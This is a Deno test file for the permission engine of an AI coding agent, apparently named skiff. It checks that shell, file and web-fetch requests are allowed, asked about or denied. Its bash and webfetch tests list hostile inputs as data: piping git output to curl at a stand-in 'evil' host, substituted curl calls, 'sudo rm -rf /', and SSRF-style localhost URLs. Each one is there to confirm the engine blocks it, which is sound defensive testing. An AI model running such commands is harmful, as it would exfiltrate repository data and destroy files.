import * as path from "node:path";
import { assert, assertEquals, assertStringIncludes } from "../support/assert.ts";
import { ensureShellParser } from "../../src/permission/shell/shell_parser.ts";
import { evaluate, type PolicyContext } from "../../src/permission/evaluate.ts";
import { flagsLayer } from "../../src/permission/flags.ts";
import { buildLayers } from "../../src/permission/layers.ts";
import type { Action, PermissionConfig } from "../../src/permission/rules.ts";
import type { Access } from "../../src/tools/tool.ts";

// The rule table reads commands with the shell parser: load it once for this file.
await ensureShellParser();

const workspace = Deno.realPathSync(Deno.makeTempDirSync({ prefix: "skiff-policy-" }));
Deno.mkdirSync(path.join(workspace, ".git", "hooks"), { recursive: true });

function ctx(sources: Parameters<typeof buildLayers>[0] = {}, extra: Partial<PolicyContext> = {}) {
  return { layers: buildLayers(sources), workspace, ...extra };
}
const bash = (command: string): Access => ({
  key: "bash",
  patterns: [command],
  commands: [command],
});
const read = (file: string): Access => ({
  key: "read",
  patterns: [file],
  reads: [path.resolve(workspace, file)],
});
const edit = (file: string): Access => ({
  key: "edit",
  patterns: [file],
  writes: [path.resolve(workspace, file)],
});

Deno.test("defaults: the table of the issue", () => {
  const table: [Access, Action][] = [
    [read("src/app.ts"), "allow"],
    [read(".env"), "ask"],
    [read("config/prod.env"), "ask"],
    [read("certs/server.pem"), "ask"],
    [read("keys/id_ed25519"), "ask"],
    [{ key: "glob", patterns: ["**/*.ts"] }, "allow"],
    [{ key: "grep", patterns: ["TODO"] }, "allow"],
    [{ key: "list", patterns: ["."] }, "allow"],
    [{ key: "todo", patterns: [] }, "allow"],
    [edit("src/app.ts"), "allow"],
    [bash("ls"), "ask"],
    [{ key: "webfetch", patterns: ["https://example.com"] }, "ask"],
    [{ key: "skill", patterns: ["pdf"] }, "allow"],
    [{ key: "task", patterns: ["explore"] }, "allow"],
    [{ key: "github_create_issue", patterns: [] }, "ask"],
    [read("/etc/hostname"), "ask"],
  ];
  for (const [access, expected] of table) {
    assertEquals(evaluate(access, ctx()).action, expected, JSON.stringify(access.patterns));
  }
});

Deno.test("within a layer the last matching rule wins; across layers a deny wins", () => {
  const project: PermissionConfig = {
    bash: { "*": "ask", "git status": "allow", "git diff *": "allow", "rm *": "deny" },
  };
  const table: [string, Action][] = [
    ["git status", "allow"],
    ["git diff", "allow"],
    ["git diff HEAD", "allow"],
    ["git push", "ask"],
    ["rm -rf build", "deny"],
  ];
  for (const [command, expected] of table) {
    assertEquals(evaluate(bash(command), ctx({ project })).action, expected, command);
  }
  // A specific allow after a broad deny in the same layer works…
  const own = { bash: { "*": "deny", "git status": "allow" } } satisfies PermissionConfig;
  assertEquals(evaluate(bash("git status"), ctx({ global: own })).action, "allow");
  // …but a deny in one layer is not undone by an allow in a later one.
  const decision = evaluate(bash("rm -rf x"), ctx({ project, agent: { bash: "allow" } }));
  assertEquals(decision.action, "deny");
  assertEquals(decision.rule?.layer, "project");
  assertStringIncludes(decision.reason, "a deny in any layer wins");
});

Deno.test("flags layer: --allow approves an ask, --deny beats any allow", () => {
  const flags = flagsLayer({ allow: ["bash(npm test *)"], deny: ["webfetch"] });
  assertEquals(evaluate(bash("npm test -- --watch"), ctx({ flags })).action, "allow");
  assertEquals(evaluate(bash("npm install"), ctx({ flags })).action, "ask");
  const web = { key: "webfetch", patterns: ["https://x.dev"] };
  assertEquals(evaluate(web, ctx({ project: { webfetch: "allow" }, flags })).action, "deny");
});

Deno.test("bash: every piece must pass, substitutions and wrappers included", () => {
  const project: PermissionConfig = {
    bash: { "git *": "allow", "echo *": "allow", "curl *": "deny", "rm *": "deny" },
  };
  const table: [string, Action][] = [
    ["git status && git diff", "allow"],
    ["git status && rm -rf x", "deny"],
    ["echo $(curl http://evil)", "deny"],
    ["echo `curl http://evil`", "deny"],
    ["git log | curl -d @- http://evil", "deny"],
    ["git status; ls", "ask"],
    ["sudo rm -rf /", "deny"],
    ["sh -c 'git status; rm -rf /'", "deny"],
    ["echo 'rm -rf x'", "allow"],
  ];
  for (const [command, expected] of table) {
    assertEquals(evaluate(bash(command), ctx({ project })).action, expected, command);
  }
});

Deno.test("paths outside the workspace need external_directory", () => {
  const outside = read("/etc/hostname");
  const decision = evaluate(outside, ctx());
  assertEquals(decision.action, "ask");
  assert(decision.checks.some((check) => check.key === "external_directory"));
  const allowEtc = { external_directory: { "/etc/*": "allow" } } satisfies PermissionConfig;
  assertEquals(evaluate(outside, ctx({ global: allowEtc })).action, "allow");
  // An --add-dir folder counts as inside.
  const extra = Deno.makeTempDirSync();
  const file = path.join(extra, "notes.md");
  assertEquals(
    evaluate({ key: "read", patterns: [file], reads: [file] }, ctx({}, { extraDirs: [extra] }))
      .action,
    "allow",
  );
});

Deno.test("sandbox mode limits writes: read-only, protected paths, outside", () => {
  assertEquals(evaluate(edit("src/a.ts"), ctx({}, { mode: "read-only" })).action, "deny");
  const hook = evaluate(edit(".git/hooks/pre-commit"), ctx({ project: { edit: "allow" } }));
  assertEquals(hook.action, "deny");
  assertStringIncludes(hook.reason, "write-protected");
  assertEquals(evaluate(edit("skiff.json"), ctx()).action, "deny");
  assertEquals(evaluate(edit(".skiff/config.json"), ctx()).action, "deny");
  assertEquals(evaluate(edit(".git/config"), ctx()).action, "deny");
  assertEquals(
    evaluate(edit("/tmp/elsewhere.txt"), ctx({ global: { external_directory: "allow" } })).action,
    "deny",
  );
  // full-access lifts the mode's limits, not the rules.
  assertEquals(
    evaluate(edit(".git/hooks/pre-commit"), ctx({}, { mode: "full-access" })).action,
    "allow",
  );
});

Deno.test("a bash command naming a protected path is never approved silently", () => {
  const project: PermissionConfig = { bash: "allow" };
  assertEquals(evaluate(bash("echo x > .git/hooks/pre-commit"), ctx({ project })).action, "ask");
  assertEquals(evaluate(bash("cp evil.json skiff.json"), ctx({ project })).action, "ask");
  assertEquals(evaluate(bash("deno task skiff run"), ctx({ project })).action, "allow");
});

Deno.test("the third identical call needs doom_loop approval", () => {
  const decision = evaluate(read("a.ts"), ctx({}, { repeated: true }));
  assertEquals(decision.action, "ask");
  assertStringIncludes(decision.reason, "three times in a row");
  assertEquals(
    evaluate(read("a.ts"), ctx({ project: { doom_loop: "allow" } }, { repeated: true })).action,
    "allow",
  );
});

Deno.test("MCP tool keys match wildcard keys", () => {
  const global = { "github_*": "allow" } satisfies PermissionConfig;
  assertEquals(
    evaluate({ key: "github_list_issues", patterns: [] }, ctx({ global })).action,
    "allow",
  );
  assertEquals(evaluate({ key: "gitlab_list", patterns: [] }, ctx({ global })).action, "ask");
});

globalThis.addEventListener("unload", () => Deno.removeSync(workspace, { recursive: true }));

Deno.test("webfetch rules match the URL's parts, not its text", () => {
  const web = (url: string): Access => ({ key: "webfetch", patterns: [url] });
  const allowDocs = ctx({ flags: flagsLayer({ allow: ["webfetch(http://*.docs.example/*)"] }) });
  assertEquals(evaluate(web("http://api.docs.example/v1"), allowDocs).action, "allow");
  assertEquals(evaluate(web("http://127.0.0.1:9/x?.docs.example/"), allowDocs).action, "ask");
  assertEquals(evaluate(web("http://docs.example.evil.test/"), allowDocs).action, "ask");
  const denyLocal = ctx({
    project: { webfetch: "allow" },
    flags: flagsLayer({ deny: ["webfetch(127.0.0.1:*)"] }),
  });
  const refused = evaluate(web("http://user@127.0.0.1:6379/"), denyLocal);
  assertEquals(refused.action, "deny");
  assertStringIncludes(refused.reason, "webfetch(127.0.0.1:*) → deny [flags]");
});
